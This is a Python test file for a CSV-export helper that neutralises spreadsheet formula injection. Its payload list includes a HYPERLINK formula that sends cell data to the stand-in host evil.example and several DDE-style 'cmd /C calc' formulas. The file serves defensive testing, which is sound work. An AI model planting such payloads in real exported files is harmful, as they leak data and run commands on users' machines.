"""CSV formula injection (issue 12, item 6): every cell the tool writes that a spreadsheet
would run as a formula is neutralised the OWASP way; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given

from icpchat.text.csv_cells import safe_cell, write_rows

from .test_terminal_text import HOSTILE, RAW_CONTROL

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dSUM(A1)",
    "-",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_quote(payload):
    cell = safe_cell(payload)
    assert isinstance(cell, str) and cell.startswith("'")


@pytest.mark.parametrize("number", ["-5", "+3.5", "-1,200.50", "-2e3", "-.5", " -7 ", "42", "0.1"])
def test_plain_numbers_stay_readable(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("value", [-5, 3.5, 0, 100])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_text_is_left_alone():
    assert safe_cell("Acme Ltd; a=b") == "Acme Ltd; a=b"
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_write_rows_quotes_and_reads_back():
    out = io.StringIO()
    write_rows(out, [["score", "company"], [-5, "=1+1"], [80, 'say "hi", then\nleave']])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["score", "company"], ["-5", "'=1+1"], ["80", 'say "hi", then\nleave']]


FORMULA_START = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@given(HOSTILE)
def test_no_cell_starts_a_formula(text):
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not RAW_CONTROL.search(cell)
    stripped = cell.lstrip(" ")
    if stripped.startswith(FORMULA_START):
        # only a plain number may start that way ("-5", "+3.5")
        float(stripped.strip().replace(",", ""))
